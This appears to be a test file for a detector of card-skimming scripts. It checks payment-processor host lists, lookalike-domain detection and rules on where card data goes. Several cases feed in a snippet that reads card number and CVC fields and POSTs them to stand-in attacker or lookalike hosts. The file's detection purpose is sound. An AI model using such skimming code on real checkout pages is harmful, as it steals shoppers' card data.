import { describe, expect, it } from 'vitest'
import { analyzeScript } from '../../detector/index.ts'
import {
  PROCESSORS,
  isProcessorLookalike,
  processorLookalike,
  processorListSchema,
  processorOf,
} from '../../detector/processors.ts'
import data from '../../detector/processors.json' with { type: 'json' }

describe('processors.json', () => {
  it('matches the entry schema (names, hosts, source URL)', () => {
    expect(processorListSchema().safeParse(data.processors).error?.issues ?? []).toEqual([])
    expect(
      processorListSchema().safeParse([{ name: 'X', names: [], hosts: [], source: 'x' }]).success,
    ).toBe(false)
  })

  it('names each processor once, with hosts and the page they were taken from', () => {
    const names = PROCESSORS.map((p) => p.name)
    expect(new Set(names).size).toBe(names.length)
    expect(names).toEqual(
      expect.arrayContaining([
        'Stripe',
        'Braintree',
        'Adyen',
        'Checkout.com',
        'Square',
        'PayPal',
        'Authorize.net',
        'Worldpay',
        'Mollie',
        'Klarna',
        'Cybersource',
        'Global Payments',
      ]),
    )
    for (const p of PROCESSORS) {
      expect(p.hosts.length, p.name).toBeGreaterThan(0)
      expect(p.source, p.name).toMatch(/^https:\/\//)
    }
  })

  it('gives no host to two processors', () => {
    const owner = new Map<string, string>()
    for (const p of PROCESSORS)
      for (const h of p.hosts) {
        expect(owner.get(h), `${h} in ${p.name}`).toBeUndefined()
        owner.set(h, p.name)
      }
  })
})

describe('processorOf', () => {
  it.each([
    ['https://js.stripe.com/v3/', 'Stripe'],
    ['JS.Stripe.COM.', 'Stripe'],
    ['api.stripe.com:443', 'Stripe'],
    ['//assets.braintreegateway.com/web/3.97.0/js/client.min.js', 'Braintree'],
    ['https://checkoutshopper-live.adyen.com/checkoutshopper/sdk/5.0/adyen.js', 'Adyen'],
    ['https://cdn.checkout.com/js/framesv2.min.js', 'Checkout.com'],
    ['https://api.checkout.com/tokens', 'Checkout.com'],
    ['https://web.squarecdn.com/v1/square.js', 'Square'],
    ['https://www.paypal.com/sdk/js?client-id=x', 'PayPal'],
    ['https://js.authorize.net/v1/Accept.js', 'Authorize.net'],
    ['https://pay.google.com/gp/p/js/pay.js', 'Google Pay'],
  ])('%s is %s', (url, name) => {
    expect(processorOf(url)?.name).toBe(name)
  })

  it.each([
    'https://js.stripe.com.cdn-sync.test/v3/',
    'https://cdn-sync.test/?next=https://js.stripe.com/v3/',
    'https://js.stripe.com@cdn-sync.test/v3/',
    'notstripe.com',
    'https://www.google.com/',
    'https://checkout.shop-a.test/',
    '',
  ])('%s is no processor', (url) => {
    expect(processorOf(url)).toBeUndefined()
  })
})

describe('isProcessorLookalike', () => {
  it.each([
    ['stripe-js.com', 'stripe'],
    ['js.strlpe.com', 'stripe.com'],
    ['paypa1-cdn.net', 'paypal'],
    ['braintree-gateway.net', 'braintree'],
    ['cdn.klarna-assets.test', 'klarna'],
    ['secure-authorize.net.cdn-sync.test', 'authorize'],
  ])('%s imitates %s', (host, brand) => {
    expect(isProcessorLookalike(host)).toBe(true)
    expect(processorLookalike(host)).toContain(brand)
  })

  it.each([
    'js.stripe.com',
    'm.stripe.network',
    'client-analytics.braintreegateway.com',
    'www.paypalobjects.com',
    'www.braintreepayments.com',
    'developer.globalpayments.com',
    'cdn.jsdelivr.net',
    'www.squarespace.com',
    'checkout.shop-a.test',
    '203.0.113.7',
  ])('%s is not a lookalike', (host) => {
    expect(isProcessorLookalike(host)).toBe(false)
  })
})

const rulesOf = (src: string, ctx = {}) => {
  const v = analyzeScript(src, ctx)
  return { v, fired: v.findings.filter((f) => f.points > 0).map((f) => f.rule) }
}

// A tokeniser reading card fields: only where the card goes differs between the cases.
const tokeniser = (api: string) => `
  document.querySelector('#pay').addEventListener('submit', function () {
    var q = function (s) { return document.querySelector(s).value }
    var card = { number: q('[autocomplete="cc-number"]'), cvc: q('[autocomplete="cc-csc"]') }
    fetch('${api}', { method: 'POST', body: JSON.stringify(card) })
  })`

describe('card rules and processor origins', () => {
  it('leaves card data sent to the processor its own origin alone, keeping a note', () => {
    const { v, fired } = rulesOf(tokeniser('https://api.stripe.com/v1/tokens'))
    expect(fired).toEqual([])
    expect(v.verdict).toBe('clean')
    const note = v.findings.find((f) => f.rule === 'card-field-read-and-send')
    expect(note?.message).toContain('payment processor Stripe')
  })

  it('still flags the same code sending the card anywhere else', () => {
    const { v, fired } = rulesOf(tokeniser('https://metrics.cdn-sync.test/v1/tokens'))
    expect(fired).toContain('card-field-read-and-send')
    expect(v.verdict).not.toBe('clean')
  })

  it('flags a lookalike of the processor origin as a lookalike', () => {
    const { fired, v } = rulesOf(tokeniser('https://api-stripe.com/v1/tokens'))
    expect(fired).toContain('lookalike-domain')
    expect(fired).toContain('card-field-read-and-send')
    expect(v.verdict).toBe('malicious')
  })

  it("accepts a loader that frames the processor's card page and names card fields", () => {
    const src = `
      var frame = document.createElement('iframe')
      frame.setAttribute('src', 'https://js.stripe.com/v3/elements-inner-card.html#' + location.host)
      document.querySelector('#card-element').appendChild(frame)
      window.addEventListener('message', function (e) {
        if (e.origin === 'https://js.stripe.com') document.querySelector('[name="cc-number-token"]').value = e.data.token
      })`
    expect(rulesOf(src).fired).toEqual([])
  })

  it("does not call the shop's own domain a lookalike on its own pages", () => {
    const src = `fetch('https://www.collie-shop.test/api/cart', { method: 'POST', body: '1' })`
    expect(rulesOf(src).fired).toContain('lookalike-domain')
    expect(rulesOf(src, { pageUrl: 'https://collie-shop.test/checkout' }).fired).not.toContain(
      'lookalike-domain',
    )
  })
})
